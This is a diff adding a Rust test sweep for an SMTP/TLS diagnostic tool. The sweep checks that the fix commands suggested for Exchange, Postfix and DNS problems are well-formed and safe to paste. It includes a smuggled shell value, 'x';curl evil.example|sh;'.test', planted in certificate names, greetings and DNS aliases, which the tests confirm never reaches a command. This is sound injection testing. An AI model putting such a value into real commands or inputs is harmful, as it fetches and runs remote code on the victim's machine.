@@ -1,0 +1,790 @@
+//! Every rule under every server kind: a sweep of hand-built observations, routes and endpoint
+//! groups that reaches each fix builder, so what must hold of every fix (text to show, no
+//! empty command, the right shell, nothing unvetted pasted, keys that mean text) is checked
+//! on all of them at once.
+
+use std::net::{IpAddr, SocketAddr};
+
+use rustls::pki_types::pem::PemObject as _;
+use time::macros::datetime;
+
+use super::tests::{NOW, World, assert_fix_is_usable, observed, reply, world};
+use super::{cross, dns};
+use crate::diagnose::fix::Family;
+use crate::diagnose::*;
+use crate::dns::route::{Family as AddressFamily, Lookup, MailHost, Route};
+use crate::dns::{DnsError, HostAnswer, Mx};
+use crate::evidence::Evidence;
+use crate::model::{FailureKind, Observation, Phase, PhaseFailure, TlsMode, Via};
+use crate::scripted::pki::self_signed;
+use crate::scripted::{Ca, LeafSpec};
+use crate::smtp::{Capabilities, Reply};
+use crate::target::{Host, Target};
+use crate::tls::{HandshakeError, HandshakeFailure, TlsVersion, TrustStore};
+
+/// A server kind, as the banner and greeting that reveal it.
+#[derive(Clone, Copy)]
+struct Kind {
+    name: &'static str,
+    greeting: &'static str,
+    banner: &'static str,
+}
+
+const KINDS: [Kind; 4] = [
+    Kind {
+        name: "exchange",
+        greeting: "exch01.contoso.test",
+        banner: "exch01.contoso.test Microsoft ESMTP MAIL Service ready",
+    },
+    Kind {
+        name: "eop",
+        greeting: "BN8NAM11FT012.mail.protection.outlook.com",
+        banner: "BN8NAM11FT012.mail.protection.outlook.com Microsoft ESMTP MAIL Service ready",
+    },
+    Kind {
+        name: "postfix",
+        greeting: "mail.contoso.test",
+        banner: "mail.contoso.test ESMTP Postfix",
+    },
+    Kind {
+        name: "unknown",
+        greeting: "mail.contoso.test",
+        banner: "mail.contoso.test ESMTP",
+    },
+];
+
+const HOST: &str = "mail.contoso.test";
+
+/// An observation of `host` by a server of kind `k`, which saw us as 203.0.113.7.
+fn as_kind(k: Kind, host: &str, chain: Vec<Vec<u8>>, trust: &TrustStore) -> Observation {
+    let mut obs = observed(host, k.greeting, chain, trust);
+    obs.banner = Some(reply(220, &[k.banner]));
+    keywords(obs, &["PIPELINING", "STARTTLS"])
+}
+
+/// The same server, answering EHLO with `words` after the greeting line.
+fn keywords(mut obs: Observation, words: &[&str]) -> Observation {
+    let greeting = obs
+        .capabilities
+        .as_ref()
+        .map_or("x", |c| c.greeting_name.as_str())
+        .to_string();
+    let first = format!("{greeting} Hello [203.0.113.7]");
+    let mut lines = vec![first.as_str()];
+    lines.extend(words);
+    let ehlo = reply(250, &lines);
+    obs.capabilities = Some(Capabilities::parse(&ehlo));
+    obs.ehlo = Some(ehlo);
+    obs
+}
+
+fn without_tls(mut obs: Observation) -> Observation {
+    obs.tls = None;
+    obs.trust = None;
+    obs.chain = Vec::new();
+    obs.ehlo_tls = None;
+    obs
+}
+
+fn greeting(mut obs: Observation, name: &str) -> Observation {
+    if let Some(c) = obs.capabilities.as_mut() {
+        c.greeting_name = name.into();
+    }
+    obs
+}
+
+fn pem(bytes: &[u8]) -> Vec<u8> {
+    rustls::pki_types::CertificateDer::from_pem_slice(bytes)
+        .unwrap()
+        .to_vec()
+}
+
+/// The endpoint scenarios of one server kind, collected.
+struct Endpoints<'w> {
+    w: &'w World,
+    k: Kind,
+    out: Vec<(String, Observation, Policy)>,
+}
+
+impl Endpoints<'_> {
+    fn add(&mut self, name: &str, obs: Observation) {
+        self.add_with(name, obs, Policy::default());
+    }
+
+    fn add_with(&mut self, name: &str, obs: Observation, policy: Policy) {
+        self.out
+            .push((format!("{}/{name}", self.k.name), obs, policy));
+    }
+
+    /// The server of this kind presenting `chain` for [`HOST`].
+    fn serving(&self, chain: Vec<Vec<u8>>) -> Observation {
+        as_kind(self.k, HOST, chain, &self.w.trust)
+    }
+
+    /// A healthy chain for [`HOST`], valid `days` more days.
+    fn good(&self, days: i64) -> Vec<Vec<u8>> {
+        self.w.chain(&LeafSpec::valid_for(HOST, NOW, days), true)
+    }
+
+    fn failed(&self, phase: Phase, kind: FailureKind, r: Option<Reply>) -> Observation {
+        let mut obs = without_tls(self.serving(self.good(90)));
+        obs.failure = Some(PhaseFailure {
+            phase,
+            kind,
+            message: format!("{} {kind:?}", phase.name()),
+            reply: r,
+            overall_deadline: false,
+        });
+        obs
+    }
+}
+
+fn expecting(names: &[&str]) -> Policy {
+    Policy {
+        expected_names: names.iter().map(|n| n.to_string()).collect(),
+        ..Policy::default()
+    }
+}
+
+fn with_ca_file() -> Policy {
+    Policy {
+        extra_roots: true,
+        ..Policy::default()
+    }
+}
+
+/// Dates, trust and chains.
+fn certificates(e: &mut Endpoints<'_>) {
+    e.add("healthy", e.serving(e.good(90)));
+    e.add("expiring-warn", e.serving(e.good(20)));
+    e.add("expiring-fail", e.serving(e.good(3)));
+    let mut spec = LeafSpec::valid_for(HOST, NOW, 0);
+    spec.not_before = datetime!(2026-08-21 12:00 UTC);
+    spec.not_after = datetime!(2026-11-19 11:00 UTC);
+    e.add("expired", e.serving(e.w.chain(&spec, true)));
+    let mut spec = LeafSpec::valid_for(HOST, NOW, 90);
+    spec.not_before = NOW + time::Duration::days(2);
+    e.add("not-yet-valid", e.serving(e.w.chain(&spec, true)));
+    // An intermediate that expired: the path is not current, so it is blamed.
+    let old =
+        e.w.root
+            .intermediate("Old Issuing CA", NOW - time::Duration::days(4000))
+            .unwrap();
+    let leaf = old.leaf(&LeafSpec::valid_for(HOST, NOW, 90)).unwrap();
+    let chain = vec![leaf.chain[0].to_vec(), old.der().to_vec()];
+    e.add("expired-intermediate", e.serving(chain));
+    let selfie = self_signed(&LeafSpec {
+        names: vec!["EXCH02".into()],
+        ..LeafSpec::valid_for("EXCH02", NOW, 900)
+    })
+    .unwrap();
+    e.add("self-signed", e.serving(vec![selfie.chain[0].to_vec()]));
+    let pinned = TrustStore::from_certs([selfie.chain[0].clone()], None);
+    let obs = as_kind(e.k, HOST, vec![selfie.chain[0].to_vec()], &pinned);
+    e.add_with("self-signed-pinned", obs, with_ca_file());
+    e.add("leaf-only", e.serving(e.good(90)[..1].to_vec()));
+    let unrelated = e.w.root.intermediate("Unrelated Issuing CA", NOW).unwrap();
+    let mut wrong = e.good(90);
+    wrong[1] = unrelated.der().to_vec();
+    e.add("wrong-intermediate", e.serving(wrong));
+    let nobody = TrustStore::from_certs([Ca::root("Someone Else", NOW).unwrap().der()], None);
+    let mut private = e.good(90);
+    private.push(e.w.root.der().to_vec());
+    e.add("private-root", as_kind(e.k, HOST, private.clone(), &nobody));
+    let obs = as_kind(e.k, HOST, private, &nobody);
+    e.add_with("private-root-ca-file", obs, with_ca_file());
+    e.add("unknown-top", as_kind(e.k, HOST, e.good(90), &nobody));
+    e.add("unparsable", e.serving(vec![vec![0x30, 0x03, 1, 2, 3]]));
+    let mut implicit = e.serving(e.good(90));
+    implicit.endpoint.tls_mode = TlsMode::Implicit;
+    implicit.endpoint.address.set_port(465);
+    e.add("implicit-healthy", implicit);
+}
+
+/// Names, key and signature strength.
+fn names_and_strength(e: &mut Endpoints<'_>) {
+    let other =
+        e.w.chain(&LeafSpec::valid_for("other.contoso.test", NOW, 90), true);
+    e.add("name-mismatch", e.serving(other));
+    let cn_only = e.w.chain(
+        &LeafSpec {
+            names: vec![],
+            ..LeafSpec::valid_for(HOST, NOW, 90)
+        },
+        true,
+    );
+    e.add("cn-only", e.serving(cn_only.clone()));
+    e.add_with("expected-cn-only", e.serving(cn_only), expecting(&[HOST]));
+    e.add(
+        "ip-target",
+        as_kind(e.k, "192.0.2.10", e.good(90), &e.w.trust),
+    );
+    let wanted = expecting(&["hybrid.contoso.test", "*.contoso.test"]);
+    e.add_with("expected-names", e.serving(e.good(90)), wanted);
+    let selfie = self_signed(&LeafSpec::valid_for("EXCH02", NOW, 900)).unwrap();
+    let untrusted = vec![selfie.chain[0].to_vec()];
+    let wanted = expecting(&["hybrid.contoso.test"]);
+    e.add_with("expected-untrusted", e.serving(untrusted.clone()), wanted);
+    let corp = "exch01.corp.contoso.local";
+    e.add("ehlo-mismatch", greeting(e.serving(e.good(90)), corp));
+    e.add(
+        "ehlo-mismatch-untrusted",
+        greeting(e.serving(untrusted), corp),
+    );
+    let weak_key = pem(include_bytes!("../../../tests/data/weak-key-leaf.pem"));
+    let weak_ca = pem(include_bytes!("../../../tests/data/weak-ca-rsa1024.pem"));
+    e.add("weak-key", e.serving(vec![weak_key, weak_ca]));
+    let sha1 = pem(include_bytes!("../../../tests/data/sha1-leaf.pem"));
+    e.add("weak-signature", e.serving(vec![sha1]));
+    let client = e.w.chain(
+        &LeafSpec {
+            client_auth_only: true,
+            ..LeafSpec::valid_for(HOST, NOW, 90)
+        },
+        true,
+    );
+    e.add("no-server-auth", e.serving(client));
+    // Names an attacker controls (certificate names, the greeting) never reach a command
+    // unvetted.
+    let evil = "x';curl evil.example|sh;'.test";
+    let evil_chain = e.w.chain(
+        &LeafSpec {
+            names: vec![evil.into(), HOST.into()],
+            ..LeafSpec::valid_for(evil, NOW, 90)
+        },
+        true,
+    );
+    let obs = as_kind(e.k, "other.contoso.test", evil_chain.clone(), &e.w.trust);
+    let wanted = expecting(&["hybrid.contoso.test"]);
+    e.add_with("evil-names", greeting(obs, evil), wanted);
+    let obs = as_kind(e.k, "192.0.2.10", evil_chain, &e.w.trust);
+    e.add("evil-names-ip", obs);
+}
+
+/// Each phase that can fail, and how.
+fn failures(e: &mut Endpoints<'_>) {
+    use FailureKind as K;
+    e.add("refused-25", e.failed(Phase::Connect, K::Refused, None));
+    let mut refused587 = e.failed(Phase::Connect, K::Refused, None);
+    refused587.endpoint.address.set_port(587);
+    e.add("refused-587", refused587);
+    e.add(
+        "connect-timeout",
+        e.failed(Phase::Connect, K::Timeout, None),
+    );
+    e.add(
+        "unreachable",
+        e.failed(Phase::Connect, K::Unreachable, None),
+    );
+    let mut deadline = e.failed(Phase::Ehlo, K::Timeout, None);
+    if let Some(f) = deadline.failure.as_mut() {
+        f.overall_deadline = true;
+    }
+    e.add("deadline", deadline);
+    e.add("banner-timeout", e.failed(Phase::Banner, K::Timeout, None));
+    for (name, code, text) in [
+        (
+            "starttls-454",
+            454,
+            "4.7.0 TLS not available due to local problem",
+        ),
+        ("starttls-502", 502, "5.5.2 Error: command not recognized"),
+        ("starttls-554", 554, "5.7.0 no"),
+    ] {
+        let r = reply(code, &[text]);
+        let kind = if code < 500 {
+            K::TemporaryReply
+        } else {
+            K::Rejected
+        };
+        let mut obs = e.failed(Phase::Starttls, kind, Some(r.clone()));
+        obs.starttls_reply = Some(r);
+        e.add(name, obs);
+    }
+    let r = reply(421, &["4.3.2 Service shutting down"]);
+    e.add(
+        "banner-421",
+        e.failed(Phase::Banner, K::TemporaryReply, Some(r)),
+    );
+    let r = reply(554, &["5.7.1 listed at zen.spamhaus.org"]);
+    e.add("banner-554", e.failed(Phase::Banner, K::Rejected, Some(r)));
+    let r = reply(501, &["5.5.4 Invalid EHLO argument"]);
+    e.add("ehlo-501", e.failed(Phase::Ehlo, K::Rejected, Some(r)));
+    for kind in [
+        HandshakeFailure::ProtocolVersion,
+        HandshakeFailure::NoSharedCipher,
+        HandshakeFailure::WeakOrBadKey,
+        HandshakeFailure::Closed,
+        HandshakeFailure::Timeout,
+        HandshakeFailure::NotTls,
+        HandshakeFailure::Alert,
+        HandshakeFailure::Other,
+    ] {
+        let mut obs = e.failed(Phase::Handshake, K::Handshake, None);
+        obs.handshake_error = Some(HandshakeError {
+            kind,
+            reason: format!("{kind:?}"),
+            detail: "library says no".into(),
+        });
+        e.add(&format!("handshake-{kind:?}"), obs);
+    }
+    let unclassified = e.failed(Phase::Handshake, K::Handshake, None);
+    e.add("handshake-unclassified", unclassified);
+    e.add("ehlo-timeout", e.failed(Phase::Ehlo, K::Timeout, None));
+    e.add("ehlo-closed", e.failed(Phase::Ehlo, K::Closed, None));
+    e.add("protocol", e.failed(Phase::Banner, K::Protocol, None));
+    e.add("tls-session", e.failed(Phase::TlsSession, K::Closed, None));
+    e.add("dns-phase", e.failed(Phase::Dns, K::Dns, None));
+}
+
+/// STARTTLS not offered (plainly, behind a masking firewall, without the egress address),
+/// EHLO rewritten, bytes injected.
+fn session(e: &mut Endpoints<'_>) {
+    let plain = without_tls(e.serving(e.good(90)));
+    let plain = || plain.clone();
+    e.add(
+        "not-offered",
+        keywords(plain(), &["PIPELINING", "SIZE 1000"]),
+    );
+    e.add(
+        "not-offered-masked",
+        keywords(plain(), &["PIPELINING", "XXXXXXXA"]),
+    );
+    let mut banner_masked = keywords(plain(), &["PIPELINING"]);
+    banner_masked.banner = Some(reply(220, &["*************************"]));
+    e.add("not-offered-banner-masked", banner_masked);
+    let mut no_ip = keywords(plain(), &["PIPELINING"]);
+    if let Some(c) = no_ip.capabilities.as_mut() {
+        c.greeting_text = "Hello".into();
+    }
+    e.add("not-offered-no-egress-ip", no_ip);
+    let mut no_esmtp = plain();
+    no_esmtp.ehlo = Some(reply(500, &["5.5.1 Command unrecognized"]));
+    no_esmtp.helo = Some(reply(250, &[e.k.greeting]));
+    no_esmtp.capabilities = None;
+    e.add("no-esmtp", no_esmtp);
+    let mut injected = e.serving(e.good(90));
+    injected.injected = b"250 injected\r\n".to_vec();
+    e.add("injection", injected);
+}
+
+fn endpoint_scenarios(w: &World, k: Kind) -> Vec<(String, Observation, Policy)> {
+    let mut e = Endpoints {
+        w,
+        k,
+        out: Vec::new(),
+    };
+    certificates(&mut e);
+    names_and_strength(&mut e);
+    failures(&mut e);
+    session(&mut e);
+    e.out
+}
+
+/// The endpoints of `mx1.contoso.test` (and one of mx2), of one server kind, as the
+/// cross-endpoint rules compare them.
+struct Nodes<'w> {
+    w: &'w World,
+    k: Kind,
+    good: Vec<Vec<u8>>,
+    selfie: Vec<Vec<u8>>,
+}
+
+impl Nodes<'_> {
+    const HOST: &'static str = "mx1.contoso.test";
+
+    /// The node 192.0.2.`last`, port `port`, presenting `chain`.
+    fn at(&self, chain: &[Vec<u8>], last: u8, port: u16) -> Observation {
+        let mut obs = as_kind(self.k, Self::HOST, chain.to_vec(), &self.w.trust);
+        obs.endpoint.address = SocketAddr::from(([192, 0, 2, last], port));
+        obs.endpoint.via = Some(Via {
+            domain: DOMAIN.into(),
+            preference: 10,
+            implicit: false,
+        });
+        obs
+    }
+
+    fn good(&self, last: u8, port: u16) -> Observation {
+        self.at(&self.good, last, port)
+    }
+
+    fn selfie(&self, last: u8, port: u16) -> Observation {
+        self.at(&self.selfie, last, port)
+    }
+}
+
+fn no_starttls(obs: Observation) -> Observation {
+    keywords(without_tls(obs), &["PIPELINING", "SIZE 1000"])
+}
+
+fn tls12(mut obs: Observation) -> Observation {
+    if let Some(t) = obs.tls.as_mut() {
+        t.version = TlsVersion::Tls12;
+    }
+    obs
+}
+
+/// The same endpoint, as MX 20 `mx2.contoso.test`.
+fn mx2(mut obs: Observation) -> Observation {
+    obs.endpoint.host = Host::Name("mx2.contoso.test".into());
+    if let Some(v) = obs.endpoint.via.as_mut() {
+        v.preference = 20;
+    }
+    obs
+}
+
+/// Endpoint groups for the cross-endpoint rules: nodes of one MX host, MX hosts of one
+/// domain, ports of one address.
+fn cross_scenarios(w: &World, k: Kind) -> Vec<(String, Vec<Evidence>)> {
+    let spec = |days| LeafSpec::valid_for(Nodes::HOST, NOW, days);
+    let selfie = self_signed(&LeafSpec::valid_for("EXCH02", NOW, 900)).unwrap();
+    let n = Nodes {
+        w,
+        k,
+        good: w.chain(&spec(90), true),
+        selfie: vec![selfie.chain[0].to_vec()],
+    };
+    let other = w.chain(&spec(80), true);
+    let leaf_only = w.chain(&spec(90), false);
+    let groups: Vec<(&str, Vec<Observation>)> = vec![
+        ("cert-differs", vec![n.good(1, 25), n.selfie(2, 25)]),
+        (
+            "cert-differs-no-good",
+            vec![n.selfie(1, 25), n.selfie(2, 25), n.at(&leaf_only, 3, 25)],
+        ),
+        ("certs-benign", vec![n.good(1, 25), n.at(&other, 2, 25)]),
+        (
+            "starttls-differs",
+            vec![n.good(1, 25), n.good(2, 25), no_starttls(n.good(3, 25))],
+        ),
+        (
+            "starttls-mostly-missing",
+            vec![
+                n.good(1, 25),
+                no_starttls(n.good(2, 25)),
+                no_starttls(n.good(3, 25)),
+            ],
+        ),
+        ("version-differs", vec![n.good(1, 25), tls12(n.good(2, 25))]),
+        (
+            "ports-differ",
+            vec![no_starttls(n.good(1, 25)), n.good(1, 587)],
+        ),
+        (
+            "ports-differ-two-closed-untrusted",
+            vec![
+                no_starttls(n.good(1, 25)),
+                no_starttls(n.good(1, 2525)),
+                n.selfie(1, 587),
+                n.selfie(1, 465),
+            ],
+        ),
+        (
+            "domain-starttls",
+            vec![n.good(1, 25), mx2(no_starttls(n.good(5, 25)))],
+        ),
+        (
+            "domain-version",
+            vec![n.good(1, 25), mx2(tls12(n.good(5, 25)))],
+        ),
+    ];
+    groups
+        .into_iter()
+        .map(|(name, g)| {
+            let evidence = g.into_iter().map(|o| Evidence::derive(o, NOW)).collect();
+            (format!("{}/cross/{name}", k.name), evidence)
+        })
+        .collect()
+}
+
+fn mail_host(name: &str, preference: Option<u16>, a: Result<HostAnswer, DnsError>) -> MailHost {
+    let ip = name.parse::<IpAddr>().ok();
+    MailHost {
+        host: ip.map_or_else(|| Host::Name(name.into()), Host::Ip),
+        preference,
+        literal: ip.is_some(),
+        addresses: a.as_ref().map(|a| a.addrs.clone()).unwrap_or_default(),
+        answer: a,
+        overridden: false,
+        filtered: Vec::new(),
+        cut: Vec::new(),
+    }
+}
+
+fn answer(addr: &str, alias_of: Option<&str>) -> Result<HostAnswer, DnsError> {
+    Ok(HostAnswer {
+        addrs: vec![addr.parse().unwrap()],
+        alias_of: alias_of.map(str::to_string),
+    })
+}
+
+fn route(name: &str, lookup: Lookup, hosts: Vec<MailHost>) -> Route {
+    Route {
+        target: name.parse::<Target>().unwrap(),
+        name: name.into(),
+        lookup,
+        hosts,
+        ports: vec![25],
+        mx_cut: Vec::new(),
+        null_mx_mixed: false,
+        family: AddressFamily::Any,
+    }
+}
+
+const DOMAIN: &str = "contoso.test";
+
+fn nx(n: &str) -> DnsError {
+    DnsError::NxDomain { name: n.into() }
+}
+
+fn resolver_failed(n: &str) -> DnsError {
+    DnsError::Failed {
+        name: n.into(),
+        reason: "timed out".into(),
+    }
+}
+
+fn no_address(n: &str) -> DnsError {
+    DnsError::NoAddress { name: n.into() }
+}
+
+fn mx1() -> MailHost {
+    mail_host("mx1.contoso.test", Some(10), answer("192.0.2.1", None))
+}
+
+/// What the MX lookup of a domain might say.
+fn mx_routes() -> Vec<(&'static str, Route)> {
+    let d = DOMAIN;
+    let mut mixed = route(d, Lookup::Mx, vec![mx1()]);
+    mixed.null_mx_mixed = true;
+    let mut capped = route(d, Lookup::Mx, vec![mx1()]);
+    capped.mx_cut = vec![Mx {
+        preference: 20,
+        exchange: "mx2.contoso.test".into(),
+    }];
+    capped.hosts[0].cut = vec!["192.0.2.2".parse().unwrap()];
+    let mut capped_addresses = route(d, Lookup::Mx, vec![mx1()]);
+    capped_addresses.hosts[0].cut =
+        vec!["192.0.2.2".parse().unwrap(), "192.0.2.3".parse().unwrap()];
+    let implicit = mail_host(d, Some(0), answer("192.0.2.7", None));
+    let implicit_none = mail_host(d, Some(0), Err(no_address(d)));
+    vec![
+        ("nxdomain", route(d, Lookup::Failed(nx(d)), vec![])),
+        (
+            "mx-failed",
+            route(d, Lookup::Failed(resolver_failed(d)), vec![]),
+        ),
+        ("null-mx", route(d, Lookup::NullMx, vec![])),
+        ("implicit", route(d, Lookup::Implicit, vec![implicit])),
+        (
+            "implicit-no-address",
+            route(d, Lookup::Implicit, vec![implicit_none]),
+        ),
+        ("null-mx-mixed", mixed),
+        ("capped", capped),
+        ("capped-addresses", capped_addresses),
+    ]
+}
+
+/// What the address lookups of the mail hosts might say.
+fn host_routes() -> Vec<(&'static str, Route)> {
+    let d = DOMAIN;
+    let mx9 = "mx9.contoso.test";
+    let literal = |p| mail_host("192.0.2.9", Some(p), answer("192.0.2.9", None));
+    let alias = |canonical| {
+        let h = mail_host(HOST, Some(10), answer("192.0.2.1", Some(canonical)));
+        route(d, Lookup::Mx, vec![h])
+    };
+    let direct = |e| route(HOST, Lookup::Direct, vec![mail_host(HOST, None, Err(e))]);
+    let mut out = vec![
+        ("mx-literal", route(d, Lookup::Mx, vec![literal(10)])),
+        (
+            "mx-literal-with-others",
+            route(d, Lookup::Mx, vec![mx1(), literal(20)]),
+        ),
+        (
+            "mx-no-address",
+            route(
+                d,
+                Lookup::Mx,
+                vec![mail_host(mx9, Some(10), Err(no_address(mx9)))],
+            ),
+        ),
+        (
+            "mx-address-failed",
+            route(
+                d,
+                Lookup::Mx,
+                vec![mail_host(mx9, Some(10), Err(resolver_failed(mx9)))],
+            ),
+        ),
+        ("mx-alias", alias("srv1.hosting.test")),
+        // A canonical name from DNS that is not fit to paste.
+        ("mx-alias-unsafe", alias("x';curl evil.example|sh;'.test")),
+        ("direct-nxdomain", direct(nx(HOST))),
+        ("direct-no-address", direct(no_address(HOST))),
+    ];
+    for (name, family) in [
+        ("v6-only-gap", AddressFamily::V4),
+        ("v4-only-gap", AddressFamily::V6),
+    ] {
+        let mut r = route(
+            d,
+            Lookup::Mx,
+            vec![mail_host(mx9, Some(10), Err(no_address(mx9)))],
+        );
+        r.family = family;
+        out.push((name, r));
+    }
+    let mut filtered = route(d, Lookup::Mx, vec![mx1()]);
+    filtered.family = AddressFamily::V6;
+    filtered.hosts[0].filtered = filtered.hosts[0].addresses.drain(..).collect();
+    out.push(("filtered", filtered));
+    out
+}
+
+/// Every finding the sweep produces, each with the name of its scenario.
+fn sweep() -> Vec<(String, Finding)> {
+    let w = world();
+    let mut out = Vec::new();
+    for k in KINDS {
+        for (name, obs, policy) in endpoint_scenarios(&w, k) {
+            let ev = Evidence::derive(obs, NOW);
+            out.extend(
+                diagnose(&ev, &policy, NOW)
+                    .into_iter()
+                    .map(|f| (name.clone(), f)),
+            );
+        }
+        for (name, group) in cross_scenarios(&w, k) {
+            out.extend(cross::rules(&group).into_iter().map(|f| (name.clone(), f)));
+        }
+    }
+    for (name, r) in mx_routes().into_iter().chain(host_routes()) {
+        let name = format!("dns/{name}");
+        out.extend(
+            dns::route_rules(&r, "192.0.2.53")
+                .into_iter()
+                .map(|f| (name.clone(), f)),
+        );
+        for h in &r.hosts {
+            let found = dns::host_rules(&r, h, "192.0.2.53");
+            out.extend(found.into_iter().map(|f| (name.clone(), f)));
+        }
+    }
+    let local = diagnose_trust_store("no system CA certificates found");
+    out.push(("local/trust-store".into(), local));
+    out
+}
+
+#[test]
+fn every_fix_has_text_and_no_empty_command() {
+    let all = sweep();
+    assert!(
+        all.len() > 300,
+        "the sweep reaches every rule: {}",
+        all.len()
+    );
+    let codes: std::collections::HashSet<Code> = all.iter().map(|(_, f)| f.code).collect();
+    assert!(codes.len() >= 40, "{} codes reached", codes.len());
+    for (_, f) in &all {
+        assert_fix_is_usable(f);
+    }
+}
+
+/// The merge of shared findings keys on the fix's identity: two fixes of one code must have
+/// equal keys exactly when they have equal text, as when the merge compared text.
+#[test]
+fn equal_keys_mean_equal_text() {
+    let all = sweep();
+    for (i, (sa, a)) in all.iter().enumerate() {
+        for (sb, b) in &all[i + 1..] {
+            let same_text = a.fix.text() == b.fix.text();
+            if a.fix.key == b.fix.key {
+                assert!(
+                    same_text,
+                    "{sa} and {sb}: key {:?}, different text",
+                    a.fix.key
+                );
+            }
+            if same_text && a.code == b.code {
+                assert_eq!(a.fix.key, b.fix.key, "{sa} and {sb}: same text");
+            }
+        }
+    }
+}
+
+#[test]
+fn no_command_carries_unvetted_names() {
+    let all = sweep();
+    assert!(all.iter().any(|(n, _)| n.ends_with("/evil-names")));
+    assert!(all.iter().any(|(n, _)| n == "dns/mx-alias-unsafe"));
+    for (name, f) in all {
+        for (_, text) in f.fix.commands() {
+            assert!(!text.contains("curl"), "{name} {}: {text}", f.code);
+        }
+    }
+}
+
+/// Where a command line belongs, read from the command itself.
+fn shell_of(command: &str) -> Shell {
+    let first = command.split_whitespace().next().unwrap_or_default();
+    let cmdlet = first.contains('-') && first.starts_with(|c: char| c.is_ascii_uppercase());
+    if command.contains("InboundConnector") || command.contains("OutboundConnector") {
+        Shell::ExchangeOnlinePowerShell
+    } else if first == "Enable-TlsCipherSuite" {
+        Shell::WindowsPowerShell
+    } else if cmdlet || first.starts_with('$') || first.starts_with('[') {
+        Shell::ExchangeManagementShell
+    } else if ["postconf", "postfix", "openssl", "grep"].contains(&first) {
+        Shell::PostfixShell
+    } else if command.contains(" IN ") {
+        Shell::DnsZone
+    } else if ["policy-map", "parameters", "allow-tls", "class", "no"].contains(&first) {
+        Shell::CiscoAsa
+    } else {
+        Shell::Shell
+    }
+}
+
+#[test]
+fn commands_run_in_the_shell_they_are_written_for() {
+    for (name, f) in sweep() {
+        for (shell, text) in f.fix.commands() {
+            assert_eq!(shell, shell_of(text), "{name} {}: {text}", f.code);
+        }
+    }
+}
+
+#[test]
+fn a_fix_is_written_for_the_server_that_answered() {
+    for (name, f) in sweep() {
+        let kind = name.split('/').next().unwrap_or_default();
+        let family = f.fix.key.family;
+        let own = match kind {
+            "exchange" => Some(Family::Exchange),
+            "eop" => Some(Family::ExchangeOnline),
+            "postfix" => Some(Family::Postfix),
+            _ => None,
+        };
+        assert!(
+            [Family::Cisco, Family::Generic].contains(&family) || Some(family) == own,
+            "{name} {}: {family:?}",
+            f.code
+        );
+        let (prefix, _) = f.fix.key.template.split_once("::").unwrap_or_default();
+        let written_for = match prefix {
+            "exchange" => [Family::Exchange, Family::ExchangeOnline].contains(&family),
+            "postfix" => family == Family::Postfix,
+            "cisco" => family == Family::Cisco,
+            "generic" => family == Family::Generic,
+            _ => false,
+        };
+        assert!(
+            written_for,
+            "{name}: {family:?} from {}",
+            f.fix.key.template
+        );
+    }
+}
